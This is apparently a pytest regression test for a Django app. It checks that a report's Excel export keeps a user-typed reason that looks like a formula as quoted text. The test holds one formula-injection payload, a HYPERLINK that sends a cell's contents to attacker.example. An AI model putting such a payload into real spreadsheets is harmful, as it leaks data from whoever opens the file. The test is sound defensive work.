"""The annual report's Excel export keeps a reason that looks like a formula as text (review finding 10)."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from zhifa.publicity import selectors

ATTACK = '=HYPERLINK("http://attacker.example/?"&B3,"详情")'


@pytest.mark.req("PUB-11")
def test_a_formula_typed_as_a_reason_is_exported_as_text(pubdesk, client):
    """The attack: an editor types the reason `=HYPERLINK(…)`; whoever opened report.xlsx ran it."""
    head = pubdesk.users.head_a1
    client.force_login(head)
    client.post(reverse("publicity-reports"), {"agency": pubdesk.agency.pk, "year": "2025"})
    report = selectors.report_list_for(actor=head).get()
    client.post(reverse("publicity-report", args=[report.pk]),
                {"action": "edit", "fig_cases_opened": "3", "why_cases_opened": ATTACK, "narrative": "平稳"})
    report.refresh_from_db()
    assert report.adjustments["cases_opened"] == ATTACK
    response = client.get(reverse("publicity-report-xlsx", args=[report.pk]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == ATTACK]
    assert len(cells) == 1 and cells[0].data_type == "s" and cells[0].quotePrefix
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
